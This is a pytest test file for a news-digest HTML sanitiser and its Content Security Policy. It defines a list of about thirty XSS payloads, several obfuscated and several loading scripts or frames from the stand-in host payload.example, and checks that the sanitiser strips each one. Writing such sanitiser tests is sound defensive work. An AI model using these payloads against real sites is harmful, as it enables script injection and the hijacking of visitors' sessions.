"""The allowlist sanitiser for scraped markup, and the CSP on every page."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from news_digest.sanitise import ALLOWED_TAGS, LINK_REL, inline_html, sanitise, text_of
from news_digest.settings import DEFAULTS
from news_digest.story import Block

HOSTILE_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://payload.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)" style="x">ok</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://payload.example/"></iframe>',
    '<object data="https://payload.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://payload.example/"><input name=q><button>go</button></form>',
    '<base href="https://payload.example/">',
    '<meta http-equiv="refresh" content="0;url=https://payload.example/">',
    "<style>body{background:url(https://payload.example/)}</style>",
    '<p style="background:url(javascript:alert(1))">s</p>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<a href="https://ok.example/"><b><i>nested <a href="javascript:alert(1)">deep</a></i></b></a>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<details open ontoggle="alert(1)">d</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


def _assert_harmless(out: str) -> None:
    doc = BeautifulSoup(f"<div>{out}</div>", "html.parser")
    for el in doc.div.find_all(True):
        assert el.name in ALLOWED_TAGS, out
        allowed = {"href", "rel"} if el.name == "a" else set()
        assert set(el.attrs) <= allowed, out
        if el.name == "a":
            assert el["rel"] == LINK_REL.split(), out
            if el.has_attr("href"):
                assert el["href"].startswith(("http://", "https://", "mailto:")), out
    assert "payload.example" not in out


@pytest.mark.parametrize("markup", HOSTILE_MARKUP)
def test_hostile_markup_comes_out_harmless(markup):
    out = sanitise(markup)
    _assert_harmless(out)
    assert sanitise(out) == out  # a second pass changes nothing


def test_links_and_emphasis_a_reader_needs_survive():
    out = sanitise(
        'Read <a href="https://ok.example/report">the report</a>, <em>now</em> <strong>and</strong> H<sub>2</sub>O.'
    )
    assert out == (
        f'Read <a href="https://ok.example/report" rel="{LINK_REL}">the report</a>, '
        "<em>now</em> <strong>and</strong> H<sub>2</sub>O."
    )


def test_relative_links_lose_their_address():
    assert sanitise('<a href="/elsewhere">x</a>') == f'<a rel="{LINK_REL}">x</a>'


def test_markup_is_used_only_while_it_says_what_the_text_says():
    block = Block(
        "p", "The report was published.", html='The <a href="https://ok.example/">report</a> was published.'
    )
    assert '<a href="https://ok.example/"' in inline_html(block)
    changed = Block("p", "The report was published today.", html=block.html)
    assert inline_html(changed) == "The report was published today."
    escaped = Block("p", "<b>tags</b> & text", html=None)
    assert inline_html(escaped) == "&lt;b&gt;tags&lt;/b&gt; &amp; text"
    assert text_of("a <em>b</em>\n c") == "a b c"


def test_the_policy_forbids_inline_script():
    policy = {d.split()[0]: d.split()[1:] for d in DEFAULTS["DIGEST_CSP"].split(";")}
    assert policy["script-src"] == ["'self'"]
    assert "'unsafe-inline'" not in DEFAULTS["DIGEST_CSP"] and "'unsafe-eval'" not in DEFAULTS["DIGEST_CSP"]
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]
